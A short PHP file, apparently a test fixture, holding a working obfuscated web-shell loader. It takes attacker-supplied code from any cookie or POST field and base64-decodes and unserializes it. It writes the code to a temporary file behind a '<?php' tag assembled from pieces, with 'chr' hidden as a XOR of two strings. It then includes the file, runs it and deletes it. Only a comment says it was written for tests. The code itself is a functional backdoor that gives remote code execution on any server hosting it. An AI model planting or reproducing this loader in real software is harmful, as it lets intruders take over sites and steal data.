<?php
// a loader keyed by a cookie or a posted field: the payload goes into a temporary file
// behind an open tag cut in pieces (the letters made by a function whose name is itself
// a XOR of two strings), runs and is removed (written for the tests, never run)
$c = 'ftu' ^ "\x05\x1c\x07";
foreach (array_merge($_COOKIE, $_POST) as $key => $blob) {
    $data = @unserialize(base64_decode($blob));
    if (!is_array($data) || !isset($data['d'])) {
        continue;
    }
    $path = sprintf('%s/%s.tmp', sys_get_temp_dir(), md5($key));
    file_put_contents($path, '<' . '?' . $c(112) . $c(104) . $c(112) . ' ' . $data['d']);
    include($path);
    @unlink($path);
    exit;
}
